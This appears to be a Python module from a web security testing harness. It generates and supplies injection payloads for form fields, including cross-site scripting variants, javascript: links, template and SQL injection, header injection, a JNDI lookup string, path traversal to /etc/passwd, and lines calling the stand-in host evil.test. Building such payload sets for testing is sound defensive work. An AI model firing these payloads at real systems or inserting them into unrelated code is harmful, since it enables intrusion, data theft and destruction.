"""Strings that try to become more than text: made here from their parts, or read from a folder."""

import itertools
import json
import random
from collections import deque
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import NamedTuple

# What an attribute or an element must never become; the eyes look for both by these names.
MARK = "x-broke"
# A sum no page shows by itself: where it stands, a template was filled in twice.
FACTORS, PRODUCT = (7919, 7907), str(7919 * 7907)

_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)")
_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter")
_ELEMENTS = (
    "<img src=x {handler}={call}>",
    "<svg {handler}={call}>",
    "<body {handler}={call}>",
    "<details open {handler}={call}>",
    "<input autofocus {handler}={call}>",
    "<video><source {handler}={call}>",
    "<x-broke {handler}={call} tabindex=1>",
)
_ESCAPES = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "--></style></script>{}", "]]>{}")
_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "//evil.test/{}",
    "/\\evil.test/{}",
)
_LINKS = (
    "[a link]({})",
    "[a link](<{}>)",
    "<{}>",
    "![a picture]({})",
    "[a link][1]\n\n[1]: {}",
    '<a href="{}">a</a>',
    '[a link](/ "{}")',
)
_ATTRIBUTES = (
    '" {handler}={call} x-broke="',
    "' {handler}={call} x-broke='",
    '" autofocus tabindex=0 {handler}={call} ',
    "x {handler}={call} x-broke",
    '" style="animation-name:x" {handler}="{call}',
)
_WHOLE = (
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<form action=//evil.test/><button>Sign in</button></form>",
    "<style>*{background:url(//evil.test/)}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>a</button>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "<ıframe src=x>",
    "<a\thref='javascript:alert(1)'>a</a>",
    "{{constructor.constructor('alert(1)')()}}",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "> # <img src=x onerror=alert(1)>",
)
_FILLED_IN = tuple(
    pattern.format(f"{FACTORS[0]}*{FACTORS[1]}")
    for pattern in ("{{{{{}}}}}", "${{{}}}", "#{{{}}}", "<%={}%>", "%({})s")
)
_OTHERS = (
    ("formula", ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", '=HYPERLINK("//evil.test")', "＝1+1")),
    (
        "statement",
        (
            "' OR '1'='1",
            "'; DROP TABLE members; --",
            '" OR 1=1 --',
            "%' ESCAPE '%",
            "') UNION SELECT 1 --",
            "\\",
        ),
    ),
    ("header", ("a\r\nX-Broke: 1", "a\nBcc: b@evil.test", "a%0d%0aSet-Cookie: x=1", "a\u2028X-Broke: 1")),
    (
        "format",
        (
            "%s%s%n",
            "%(name)s",
            "{0.__class__}",
            "{member.password_hash}",
            "%",
            "{",
            "${jndi:ldap://evil.test}",
        ),
    ),
    (
        "letters",
        ("\u202etxet", "a\u0300" * 30, "𝕬𝖉𝖆", "🏳️‍🌈", "٠١٢", "İıſK", "\ufdfa", "a\u200bb", "𠜎", "Ａｄａ"),
    ),
    ("path", ("../../../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "a.csv\x00.png", "CON", "~root")),
)


class Payload(NamedTuple):
    """A string to be entered, and what it tries to be."""

    text: str
    kind: str


def own() -> list[Payload]:
    """Ours: each way out of a text with each thing to do there, and what other machines would read."""
    made = [Payload(text, "markup") for text in _WHOLE]
    # Too long for most fields: what is refused is shown again.
    made += [Payload(f"{text} {'and on ' * 20}", "markup") for text in _WHOLE[:12]]
    turns = itertools.cycle(itertools.product(_HANDLERS, _CALLS))
    for shape, (escape, element) in enumerate(itertools.product(_ESCAPES, _ELEMENTS)):
        handler, call = next(turns)
        made.append(Payload(escape.format(element.format(handler=handler, call=call)), "markup"))
        if shape < len(_ATTRIBUTES) * 2:
            pattern = _ATTRIBUTES[shape % len(_ATTRIBUTES)]
            made.append(Payload(pattern.format(handler=handler, call=call), "attribute"))
    for (link, scheme), call in zip(itertools.product(_LINKS, _SCHEMES), itertools.cycle(_CALLS)):
        made.append(Payload(link.format(scheme.format(call)), "link"))
    made += [Payload(text, "template") for text in _FILLED_IN]
    return made + [Payload(text, kind) for kind, texts in _OTHERS for text in texts]


def from_folder(folder: Path, *, left_out: Iterable[str] = ()) -> list[Payload]:
    """What stands in JSON Lines of `payload` and `class`; the name of the file says what it tries to be."""
    found = []
    for path in sorted(folder.glob("*.jsonl")):
        if path.stem in left_out:
            continue
        with path.open(encoding="utf-8") as lines:
            found += [Payload(json.loads(line)["payload"], path.stem) for line in lines]
    return found


def names_in(folder: Path) -> list[str]:
    """Names of fields that forms elsewhere were stuffed with, as far as the folder has them."""
    path = folder / "massassign.jsonl"
    lines = path.read_text(encoding="utf-8").splitlines() if path.exists() else []
    return [json.loads(line)["payload"] for line in lines]


class Supply:
    """Hands out payloads in turn, each field the next one that fits into it, so that all are used."""

    def __init__(self, payloads: Iterable[Payload], *, seed: int = 1) -> None:
        mixed = list(payloads)
        random.Random(seed).shuffle(mixed)
        self._waiting = deque(mixed)
        self.used: set[Payload] = set()

    def next(self, most: int) -> Payload:
        """The one that waits longest among those of at most that many characters."""
        for place, payload in enumerate(self._waiting):
            if len(payload.text) <= most:
                del self._waiting[place]
                self._waiting.append(payload)
                self.used.add(payload)
                return payload
        return Payload("<b>", "markup")

    def __iter__(self) -> Iterator[Payload]:
        return iter(tuple(self._waiting))
